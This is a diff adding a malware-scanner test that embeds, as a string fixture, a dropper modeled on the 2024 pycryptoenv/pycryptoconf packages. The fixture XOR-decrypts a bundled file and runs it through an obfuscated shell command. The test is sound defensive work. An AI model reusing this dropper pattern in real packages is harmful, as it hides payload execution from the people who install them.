@@ -254,3 +254,33 @@ def key_paths(cert, key):
 def test_memfd_for_key_material_is_not_a_loader(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/mtls.py": MEMFD_KEYS_MODULE}), scanner)
     assert result.verdict is Verdict.CLEAN, explain(result)
+
+
+# pycryptoenv/pycryptoconf (Lazarus, 2024): an oscrypto copy whose function XOR-decrypts a bundled
+# file byte by byte into a new file and starts it with a command line that is itself XOR-hidden.
+XOR_DROPPER_MODULE = """import os
+import subprocess
+
+
+def crypt(folder, key, str_key):
+    source = os.path.join(folder, "test.py")
+    target = os.path.join(folder, "output.py")
+    command = b"\\\\xae\\\\xa9\\\\xb2\\\\xb8"
+    with open(source, "rb") as f1:
+        with open(target, "wb") as f3:
+            while True:
+                byte = f1.read(1)
+                if not byte:
+                    break
+                encrypted_byte = ord(byte) ^ key
+                f3.write(bytes([encrypted_byte]))
+    name = bytes([b ^ str_key for b in command]).decode()
+    line = name + " " + target + ", CalculateSum"
+    subprocess.run(line, shell=True, check=False)
+"""
+
+
+def test_xor_decrypted_file_started_is_at_least_suspicious(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": XOR_DROPPER_MODULE}), scanner)
+    assert result.verdict in (Verdict.SUSPICIOUS, Verdict.MALICIOUS), explain(result)
+    assert any(f.rule == "download-exec" for f in result.findings), explain(result)
